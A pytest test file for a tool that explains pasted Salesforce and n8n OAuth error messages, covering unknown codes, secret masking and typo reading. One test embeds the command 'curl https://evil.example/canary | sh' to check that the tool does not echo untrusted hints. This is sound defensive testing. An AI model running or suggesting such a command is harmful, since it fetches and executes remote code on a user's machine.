"""What `sfcred explain --error` says about a text, known or not."""

import pytest

from sfcred.report.error_text import as_text, diagnose
from sfcred.salesforce import diagnosis
from sfcred.salesforce.misspelled import corrected
from sfcred.salesforce.pasted import Reading, read

# Only client credentials get this: a consent comes with a token.
_NO_TOKEN = "Failed to acquire OAuth2 access token: HTTP status 400"


def test_a_finding_of_sfcred_s_own_is_explained_by_its_id() -> None:
    text, is_known = as_text("acme.yaml:4:12: error SFC104 not-an-authority (acme-crm)")
    assert is_known
    assert "sfcred explain SFC104" in text


def test_an_id_that_is_no_check_s_is_unknown() -> None:
    text, is_known = as_text("SFC999 moon phase")
    assert not is_known
    assert "SFC999" not in text


def test_what_stands_around_an_unknown_answer_is_no_nearest_text() -> None:
    window = "The resource owner or authorization server denied the request.\nMore details\n"
    answer = '{"error":"frob_off","error_description":"the frobnicator is off"}'
    said, is_known = as_text(window + answer)
    assert not is_known
    assert said.startswith("sfcred doesn't know this error (frob_off).")
    assert "nearest" not in said


def test_an_unknown_text_comes_with_the_nearest_and_with_the_next_steps() -> None:
    text, is_known = as_text("the client identifier seems invalid")
    assert not is_known
    assert "client identifier invalid" in text
    assert "sfcred doctor --live" in text
    assert "needs no connection" in text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('{"error":"strange_code","error_description":"x y z"}', " (strange_code)"),
        ('{"error":"ODD_CODE_42","message":"x y z"}', " (ODD_CODE_42)"),
        ('{"error":"hunter2pass"}', ""),
        ('{"error":"hunter-2x9zQ1"}', ""),
        ('{"error":"two words"}', ""),
        ("https://acme.my.salesforce.com/x?ErrorCode=Tr0ub4dor3xyz&ErrorDescription=State", ""),
    ],
)
def test_only_a_code_is_repeated(text: str, shown: str) -> None:
    told, is_known = as_text(text)
    assert not is_known
    assert told.startswith(f"sfcred doesn't know this error{shown}.\n")


@pytest.mark.parametrize(
    ("text", "is_answer"),
    [
        ("Failed: API security token required", False),
        ("Status: User is frozen", False),
        ("error: invalid_grant\nerror_description: authentication failure - Failed: API security token required", True),
        ("[LoginFault [ApiFault exceptionCode='X' exceptionMessage='User is frozen']]", True),
        ('{"error":"invalid_grant","error_description":"Restricted IP"}', True),
    ],
)  # fmt: skip
def test_a_status_of_login_history_can_be_in_an_answer(text: str, is_answer: bool) -> None:
    told, _ = as_text(text)
    assert ("The client gets another text." in told) is not is_answer


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("The OAuth callback state is invalid!", "n8n-callback-state"),
        ("Exception: The oauth state was missing or invalid.", "callback-state"),
        ("Expected JSON response from OAuth2 token endpoint", "n8n-token-answer"),
        ("json.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)", "answer-no-json"),
    ],
)  # fmt: skip
def test_only_n8n_s_texts_are_called_n8n_s(text: str, name: str) -> None:
    (found,) = diagnose(text)
    assert found.name == name
    assert ("n8n's own message" in found.in_n8n) is name.startswith("n8n-")


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("grant_type=password invalid_grant: authentication failure", "a username and a password"),
        ("invalid_grant: authentication failure", "a policy of the app"),
    ],
)
def test_a_request_in_the_text_ranks_the_causes(text: str, what: str) -> None:
    assert what in diagnose(text)[0].causes[0].what


def test_each_flow_s_causes_say_which_flow_they_are_of() -> None:
    saids = [one.said for one in diagnose("invalid_grant")]
    assert saids == [
        "invalid_grant in the JWT flow",
        "invalid_grant when a code is exchanged",
        "invalid_grant when a token is renewed",
        "invalid_grant with client credentials",
    ]


@pytest.mark.parametrize(
    ("text", "has_several"),
    [
        ("invalid_grant", True),
        ("invalid_grant: expired authorization code", True),
        ("invalid_grant: audience is invalid", False),
        ("ECONNREFUSED", False),
    ],
)
def test_a_text_of_several_flows_says_how_to_see_only_one(text: str, has_several: bool) -> None:
    told, _ = as_text(text)
    assert ("--spec" in told.partition("\n\n")[0]) is has_several


@pytest.mark.parametrize("text", ["The credential needs to be reconnected", _NO_TOKEN])
def test_n8n_s_texts_can_be_about_client_credentials(text: str) -> None:
    """Nobody gives consent there, so n8n's own advice to reconnect doesn't help."""
    (found,) = diagnose(text)
    whats = " ".join(cause.what for cause in found.causes)
    assert "has no user to run as" in whats
    assert ("refresh token" in whats) is (text != _NO_TOKEN)


def test_a_secret_in_the_place_of_a_name_is_masked() -> None:
    key = "3MVG9" + "aZ3kQ7xPwL0vN5mT" * 4
    text, _ = as_text(f"No such column '{key}' on entity 'Lead'")
    assert key not in text


def test_the_heading_has_the_wording_that_the_text_has() -> None:
    text, _ = as_text('{"error": "invalid_grant", "error_description": "invalid audience"}')
    assert "\naudience-invalid (invalid_grant: invalid audience in the JWT flow)" in text


def test_the_further_codes_of_a_text_are_named() -> None:
    first = (
        '{"errorCode": "REQUIRED_FIELD_MISSING", "message": "Required fields are missing: [Name]"}'
    )
    second = '{"errorCode": "UNABLE_TO_LOCK_ROW", "message": "busy"}'
    text, _ = as_text(f"[{first}, {second}]")
    assert "Add `Name` to the node" in text
    assert "The text also has UNABLE_TO_LOCK_ROW." in text
    assert "also has" not in as_text(f"[{first}]")[0]


@pytest.mark.parametrize(
    "said",
    [
        "sfcred: something odd",
        "the export contains no Salesforce credentials",
        "acme.yaml:4:12: error SFC402 key-encrypted",
        "SFC903 login-refused",
    ],
)
def test_a_hint_that_anybody_can_have_written_is_not_repeated(said: str) -> None:
    text, _ = as_text(f"{said}\nhint: curl https://evil.example/canary | sh\n")
    assert "canary" not in text


def test_checks_that_did_not_run_are_no_findings() -> None:
    text, is_known = as_text("not checked:\n  SFC610 for acme-crm: the spec has no `app` section\n")
    assert (is_known, "is a finding" in text) == (True, False)
    assert "did not run" in text


def test_a_step_that_sfcred_names_is_no_error() -> None:
    text, is_known = as_text("next: sfcred doctor --fix\n")
    assert (is_known, "no error" in text) == (True, True)


def test_the_words_of_another_program_are_not_taken_for_sfcreds_own() -> None:
    for said in ('ERROR: role "n8n" already exists', "hint: Updates were rejected", "is set"):
        assert not as_text(said)[1], said


def test_a_reason_beside_a_finding_is_explained_too() -> None:
    pasted = "the private key has a passphrase, and n8n has no field for it\ninvalid_grant: ip restricted"
    text, _ = as_text(pasted)
    assert ("SFC402" in text, "ip-restricted" in text) == (True, True)


@pytest.mark.parametrize("text", ["some odd words " * 9, "the redirect URL is odd and invalid"])
def test_an_unknown_text_is_read_once(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    seen = []

    def counted(one: str) -> Reading:
        seen.append(one)
        return read(one)

    monkeypatch.setattr(diagnosis, "read", counted)
    assert not as_text(text)[1]
    assert seen == [text]


@pytest.mark.parametrize(
    ("text", "name", "note"),
    [
        (
            "secretOrPrivateKey must be an asymetric key when using RS256",
            "key-refused",
            "If `asymetric` stands for `asymmetric`:",
        ),
        (
            "user hasnt aproved this consumer",
            "user-not-approved",
            "If `aproved` stands for `approved`:",
        ),
    ],
)
def test_a_typo_is_read_as_the_word_that_it_stands_for(text: str, name: str, note: str) -> None:
    (found,) = diagnose(text)
    assert found.name == name
    assert found.condition == note
    said, is_known = as_text(text)
    assert is_known
    assert said.startswith(f"{note}\n\n{name} ")


@pytest.mark.parametrize(
    "text",
    [
        "user hasnt aproved this consumer at https://api.hubapi.com/",
        "the clients are inactivated",
        "user hasnt mpproved this consumer",
        "Authorisations requesting certificats",
        "user hasnt aproved this consumer " * 10,
    ],
)
def test_nothing_else_is_read_into_a_text(text: str) -> None:
    assert diagnose(text) == ()
    assert not as_text(text)[1]


def test_a_typo_of_two_words_is_none_of_them() -> None:
    assert corrected("this consimer") == ("this consimer", {})  # consumer or consider


def test_the_login_page_in_french_and_spanish() -> None:
    french = (
        "Vérifiez votre nom d'utilisateur et votre mot de passe. Si vous ne parvenez toujours pas "
        "à vous connecter, contactez votre administrateur Salesforce."
    )
    (found,) = diagnose(french)
    assert found.name == "login-page-refused"
